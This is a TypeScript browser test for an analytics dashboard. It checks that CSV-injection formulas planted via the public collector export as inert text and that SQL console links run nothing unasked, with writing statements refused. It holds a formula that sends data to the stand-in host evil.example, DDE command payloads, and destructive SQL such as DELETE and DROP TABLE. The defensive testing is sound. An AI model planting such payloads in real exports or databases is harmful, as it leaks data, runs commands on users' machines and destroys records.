/**
 * What anyone on the internet can plant through the public collector stays inert in the owner's browser:
 * a formula in an event name, a referrer or a prop is exported by a panel's CSV and by the SQL console's CSV
 * as text (a leading '), and a SQL console link (`?view=sql&sql=...`) runs nothing until the owner presses
 * Run; a statement that writes is refused and the loaded tables stay as they were. Real Chromium, real stack.
 */
import { readFile } from 'node:fs/promises'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../helpers/browser.ts'
import { openPanel } from '../helpers/panels.ts'
import { listFiles } from '../helpers/lake.ts'
import { freePort, startStack, waitFor, type Stack } from '../helpers/stack.ts'

const FORMULA_NAME = `=cmd|' /C calc'!A0`
const FORMULA_REF = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
const FORMULA_PROP = '@SUM(1+1)*cmd|"/C calc"!A0'
const N = 12
// A browser's agent: the dashboard leaves bots out by default.
const CHROME_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'

let stack: Stack
let browser: BrowserContext
let base: string

beforeAll(async () => {
  browser = await launchChromium()
  stack = await startStack({ port: await freePort() })
  const now = Date.now()
  const events = Array.from({ length: N }, (_, i) => ({
    id: `hostile-${String(i).padStart(4, '0')}`,
    type: i % 2 ? 'event' : 'pageview',
    name: i % 2 ? FORMULA_NAME : undefined,
    ts: now - 60_000 + i,
    url: `http://localhost/demo/p${i % 3}`,
    referrer: FORMULA_REF,
    title: '+1+1',
    props: { plan: FORMULA_PROP, n: -3 },
  }))
  const res = await fetch(`${stack.url}/e`, {
    method: 'POST',
    headers: { 'Content-Type': 'text/plain', 'CF-Connecting-IP': '198.51.100.20', 'User-Agent': CHROME_UA },
    body: JSON.stringify({ site: 'demo', sentAt: now, events }),
  })
  expect(res.status).toBe(202)
  await waitFor(async () => (await listFiles(stack, 'demo', now - 3_600_000, now + 60_000)).reduce((n, f) => n + f.rows, 0) >= N, 60_000)
  base = `${stack.url}/dashboard/?range=custom&from=${new Date(now - 3_600_000).toISOString()}&to=${new Date(now + 300_000).toISOString()}`
})
afterAll(async () => {
  await browser?.close()
  await stack?.stop()
})

async function settled(page: Page): Promise<void> {
  await page.waitForSelector('[data-testid=load-stats]', { timeout: 60_000 })
  await page.waitForFunction(() => !document.querySelector('[aria-busy=true]'), null, { timeout: 60_000 })
}

/** The cells of a CSV (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function cells(csv: string): string[] {
  const out: string[] = []
  for (const m of csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g)) {
    if (m[0] === '') break
    out.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!)
  }
  return out
}
/** A cell a spreadsheet would evaluate: starts with = + - @ tab or CR and is not a number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell)

async function download(page: Page, testid: string): Promise<string> {
  const [d] = await Promise.all([page.waitForEvent('download'), page.click(`[data-testid=${testid}-csv]`)])
  return readFile((await d.path())!, 'utf8')
}

async function consoleRows(page: Page): Promise<string[][]> {
  return page.$$eval('[data-testid="sql-result"] tbody tr', (trs) =>
    trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')),
  )
}

describe('hostile input in the dashboard', () => {
  it('exports a planted formula from a panel and from the SQL console as inert text', async () => {
    const page = await browser.newPage()
    await page.goto(`${base}#token=${stack.token}`)
    await settled(page)
    for (const testid of ['custom-events', 'referrers']) {
      await openPanel(page, testid)
      const csv = await download(page, testid)
      const all = cells(csv)
      expect(all.filter(live), testid).toEqual([])
      expect(all).toContain(testid === 'custom-events' ? `'${FORMULA_NAME}` : `'${FORMULA_REF}`)
    }
    const sql = `SELECT name, referrer, title, props, -3 AS n FROM events WHERE name IS NOT NULL ORDER BY event_id LIMIT 3`
    await page.goto(`${base}&view=sql#token=${stack.token}`)
    await settled(page)
    await page.fill('[data-testid=sql-text]', sql)
    await page.click('[data-testid=sql-run]')
    await page.waitForSelector('[data-testid=sql-result][data-state=ready]', { timeout: 30_000 })
    const csv = await download(page, 'sql-result')
    const all = cells(csv)
    expect(all.filter(live)).toEqual([])
    expect(all.slice(0, 5)).toEqual(['name', 'referrer', 'title', 'props', 'n'])
    expect(all.slice(5, 10)).toEqual([`'${FORMULA_NAME}`, `'${FORMULA_REF}`, `'+1+1`, JSON.stringify({ plan: FORMULA_PROP, n: -3 }), '-3'])
    await page.close()
  })

  it('runs a SQL link only when the owner presses Run, and a writing statement never changes the loaded tables', async () => {
    const page = await browser.newPage()
    const count = async () => {
      await page.fill('[data-testid=sql-text]', 'SELECT count(*) AS n FROM events')
      await page.click('[data-testid=sql-run]')
      await page.waitForSelector('[data-testid=sql-result][data-state=ready]', { timeout: 30_000 })
      await page.waitForFunction(() => !document.querySelector('[aria-busy=true]'))
      return (await consoleRows(page))[0]
    }
    for (const attack of [
      'DELETE FROM events',
      'WITH x AS (SELECT 1) DELETE FROM events',
      'SELECT 1; DELETE FROM events',
      'DROP TABLE events',
      "COPY events TO 'x.csv'",
      'SET threads = 1',
    ]) {
      await page.goto(`${base}&view=sql&sql=${encodeURIComponent(attack)}#token=${stack.token}`)
      await settled(page)
      // Shown, not run.
      expect(await page.inputValue('[data-testid=sql-text]')).toBe(attack)
      expect(await page.getAttribute('[data-testid=sql-result]', 'data-state')).toBe('waiting')
      // Pressed: refused, or run and undone.
      await page.click('[data-testid=sql-run]')
      await page.waitForFunction(
        () => ['error', 'ready', 'empty'].includes(document.querySelector('[data-testid=sql-result]')?.getAttribute('data-state') ?? ''),
        null,
        { timeout: 30_000 },
      )
      expect([attack, await count()]).toEqual([attack, [String(N)]])
    }
    const error = async (sql: string) => {
      await page.fill('[data-testid=sql-text]', sql)
      await page.click('[data-testid=sql-run]')
      await page.waitForSelector('[data-testid=sql-result][data-state=error]', { timeout: 30_000 })
      return page.textContent('[data-testid=sql-result] [role=alert]')
    }
    expect(await error('DELETE FROM events')).toMatch(/^the console runs reading statements only/)
    // The Overview of the same tab still counts every event.
    await page.click('[data-testid=nav-overview]')
    await settled(page)
    expect(await page.textContent('[data-testid=kpi-events]')).toBe(String(N / 2)) // the custom events
    await page.close()
  })
})
